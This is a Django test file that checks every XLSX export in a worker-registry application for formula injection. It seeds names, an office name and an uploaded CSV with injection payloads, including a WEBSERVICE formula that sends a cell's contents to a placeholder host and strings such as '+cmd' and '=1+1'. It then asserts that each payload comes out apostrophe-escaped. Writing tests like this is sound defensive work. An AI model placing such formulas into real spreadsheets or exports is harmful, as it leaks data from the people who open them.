FORMULA = '=WEBSERVICE("http://x?"&A2)'


class XlsxWalkTest(UrlWalkTest):
    """Every XLSX the walk knows, opened with openpyxl: no cell is a formula (issue 15).

    Inherits the walk's data and route list; runs only its own test (the others are
    switched off below so that they do not run twice).
    """

    test_every_page_has_an_access_decision_for_every_persona = None  # type: ignore[assignment]
    test_anonymous_visitors_are_sent_to_login = None  # type: ignore[assignment]
    test_every_api_endpoint_has_an_access_decision_for_every_persona = None  # type: ignore[assignment]
    test_api_refuses_requests_without_a_valid_token = None  # type: ignore[assignment]
    test_the_walk_covers_every_route = None  # type: ignore[assignment]
    test_only_a_superuser_may_switch_pemda = None  # type: ignore[assignment]
    test_every_post_only_route_has_an_access_decision_for_every_persona = None  # type: ignore[assignment]
    test_a_whole_nik_lookup_finds_only_within_scope = None  # type: ignore[assignment]

    def test_no_xlsx_cell_is_a_formula(self) -> None:
        from io import BytesIO

        import openpyxl
        from django.core.files.base import ContentFile

        from lindung.dashboards.services import report_create, report_execute
        from lindung.imports.pipeline import check, create_batch
        from lindung.reconciliation.rules import Category
        from lindung.reconciliation.services import reconcile
        from lindung.reconciliation.tests.scenario import AS_OF
        from lindung.registry.services import opd_create, worker_add

        opd = opd_create(actor=self.admin, pemda=self.pemda, code="CMD", name="+cmd")
        worker_add(
            actor=self.admin, opd=opd, nik=make_valid_nik(), name=FORMULA, phone="",
            category="kontrak", monthly_wage=2_100_000, start_date=date(2026, 1, 5),
        )  # fmt: skip
        worker_add(
            actor=self.admin, opd=self.opd, nik=make_valid_nik(), name="-5 @SUM(A1)",
            category="honorer", monthly_wage=1_900_000, start_date=date(2026, 1, 5),
        )  # fmt: skip
        run = reconcile(pemda=self.pemda, as_of=AS_OF, user=self.admin).pk
        report = report_create(pemda=self.pemda, format="xlsx", user=self.admin)
        report_execute(report)
        bad = create_batch(
            pemda=self.pemda, kind="workers", original_name="cmd.csv", user=self.admin,
            source=ContentFile(f'NIK;Nama;Gaji\n=1+1;{FORMULA};-5\n'.encode(), name="cmd.csv"),
            options={"opd_id": opd.pk},
        )  # fmt: skip
        check(bad)
        # The walk's own report is a two-byte stand-in; the one made above is real.
        fake = f"/dasbor/rakor/{self.report.pk}/unduh/"
        urls = {url for _n, url, _e in self.pages() if url != fake}
        urls |= {
            f"/registri/opd/{opd.pk}/unduh.xlsx",
            f"/dasbor/daftar.xlsx?status=workers&run={run}",
            f"/dasbor/daftar.xlsx?status=gap&run={run}",
            f"/dasbor/daftar.xlsx?status=workers&opd={opd.pk}&run={run}",
            f"/dasbor/rakor/{report.pk}/unduh/",
            f"/impor/{bad.pk}/galat.xlsx",
            "/iuran/anggaran/?format=xlsx",
            *(f"/rekonsiliasi/{run}/daftar.xlsx?kategori={c}" for c in Category.values),
        }
        seen: set[str] = set()
        for persona in ("admin", "root", "pimpinan"):
            self.client.force_login(self.personas()[persona])
            for url in sorted(urls):
                response = self.client.get(url)
                if response.status_code != 200 or "spreadsheet" not in response["Content-Type"]:
                    continue
                body = (
                    b"".join(response.streaming_content)
                    if response.streaming
                    else response.content
                )
                wb = openpyxl.load_workbook(BytesIO(body))
                for ws in wb.worksheets:
                    for row in ws.iter_rows():
                        for cell in row:
                            with self.subTest(url=url, persona=persona, cell=cell.coordinate):
                                self.assertNotEqual(cell.data_type, "f")
                                self.assertFalse(str(cell.value or "").startswith("="))
                            if str(cell.value).startswith("'"):
                                seen.add(str(cell.value))
                            if cell.data_type == "n" and isinstance(cell.value, int | float):
                                seen.add("number")
        # The data reached the files, neutralised; computed numbers stay numbers.
        self.assertIn("'" + FORMULA, seen)
        self.assertIn("'+cmd", seen)
        self.assertIn("'-5 @SUM(A1)", seen)
        self.assertIn("'=1+1", seen)
        self.assertIn("number", seen)
